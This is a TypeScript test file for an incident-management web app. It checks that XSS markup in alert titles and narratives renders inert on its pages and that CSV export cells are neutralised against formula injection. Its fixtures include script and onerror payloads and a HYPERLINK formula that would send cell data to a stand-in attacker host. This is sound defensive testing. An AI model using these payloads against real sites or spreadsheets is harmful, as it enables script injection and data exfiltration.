// Alert titles and narrative text come from outside (an attacker can name an
// alert). Markup in them must render inert on every page and in the CSV export.
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  assessmentBody,
  createTestUser,
  eventually,
  incidentBody,
  logInForm,
  startHarness,
  type Harness,
} from '../support/app-harness';
import { neutraliseCell } from '../../lib/csv';

const TITLE = '<script>alert(1)</script>';
const NARRATIVE = '<img src=x onerror=alert(2)>';
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let h: Harness;
let web: Awaited<ReturnType<typeof logInForm>>;
let id: string;

beforeAll(async () => {
  h = await startHarness();
  const created = await h.api(
    'POST',
    '/api/incidents',
    incidentBody({ title: TITLE, description: `${TITLE} ${NARRATIVE}` }),
  );
  id = created.body.id;
  await h.api('POST', `/api/incidents/${id}/triage`, { decision: 'confirm', reason: `reason ${NARRATIVE}` });
  const assessed = await h.api(
    'POST',
    `/api/incidents/${id}/assessment`,
    assessmentBody({ narrative: { whatHappened: NARRATIVE }, riskRationale: `risk ${NARRATIVE}` }),
  );
  expect(assessed.status, JSON.stringify(assessed.body)).toBe(200);
  await eventually(
    () => h.api('GET', `/api/incidents/${id}/notices`),
    (r) => r.body.noticeVersion !== null,
  );
  const formula = await h.api('POST', '/api/incidents', incidentBody({ title: FORMULA_TITLE }));
  await h.api('POST', `/api/incidents/${formula.body.id}/triage`, {
    decision: 'dismiss',
    reason: '@SUM(1+1) looked like a breach but was a test',
  });
  const admin = await createTestUser(h, { email: 'xss.admin@example.org', role: 'admin' });
  web = await logInForm(h, admin.email, admin.password);
});
afterAll(async () => {
  await h?.close();
});

function expectInert(html: string) {
  expect(html).not.toContain('<script>alert(1)');
  expect(html).not.toContain('<img src=x onerror');
  expect(html).not.toContain('<img src="x" onerror');
}

describe('markup in titles and template variables renders inert', () => {
  for (const path of ['/incidents', '/incidents?q=script', '/dashboard', '/register']) {
    it(`on ${path}`, async () => {
      const page = await web.get(path);
      expect(page.status).toBe(200);
      expect(page.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expectInert(page.html);
    });
  }

  it('on the incident page, including the notice previews rendered from the narrative', async () => {
    const page = await web.get(`/incidents/${id}`);
    expect(page.status).toBe(200);
    expect(page.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    // The preview shows the notice HTML inside srcdoc, so the narrative is escaped twice: once by the notice template, once as an attribute.
    expect(page.html).toContain('srcdoc=');
    expect(page.html).toContain('&amp;lt;img src&amp;#x3D;x onerror');
    expectInert(page.html);
    const stored = await h.db.all<{ html: string | null; text: string }>(
      'SELECT html, text FROM notices WHERE incident_id = ?',
      [id],
    );
    expect(stored.some((n) => n.text.includes(NARRATIVE))).toBe(true);
    for (const n of stored) expect(n.html ?? '').not.toContain(NARRATIVE);
  });

  it('in the breach register CSV: an attachment, with formula cells neutralised', async () => {
    const res = await fetch(`${h.baseUrl}/register.csv`, {
      headers: { cookie: [...web.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const rows = parseCsv(await res.text(), { columns: true }) as Record<string, string>[];
    const titles = rows.map((r) => r.Title);
    expect(titles).toContain(TITLE);
    expect(titles).toContain(`'${FORMULA_TITLE}`);
    const dismissed = rows.find((r) => r.Title === `'${FORMULA_TITLE}`)!;
    expect(dismissed.Decision).toMatch(/^dismissed/);
    expect(dismissed.Reasoning).toBe("'@SUM(1+1) looked like a breach but was a test");
  });

  it('neutralises every cell that a spreadsheet would run, and nothing else', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${lead}1+1`)).toBe(`'${lead}1+1`);
    for (const safe of ['plain', ' =leading space', '1-2', '']) expect(neutraliseCell(safe)).toBe(safe);
  });
});
